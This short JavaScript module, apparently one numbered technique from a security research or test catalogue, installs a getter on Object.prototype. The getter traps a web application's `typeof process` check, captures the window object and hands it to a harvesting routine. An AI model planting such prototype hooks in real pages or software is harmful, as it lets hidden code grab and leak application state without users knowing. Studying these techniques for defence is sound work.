import { harvest } from './harvest.js';
// Class 10: a getter on Object.prototype catches the app's `typeof process` (window has no `process`, so
// the lookup falls through to Object.prototype and calls the getter with `this` = window).
const captured = [];
export function arm() {
  Object.defineProperty(Object.prototype, 'process', { get() { captured.push(this); return undefined; }, configurable: true });
}
export function disarm() {
  delete Object.prototype.process;
}
export async function collect() {
  return harvest(captured);
}
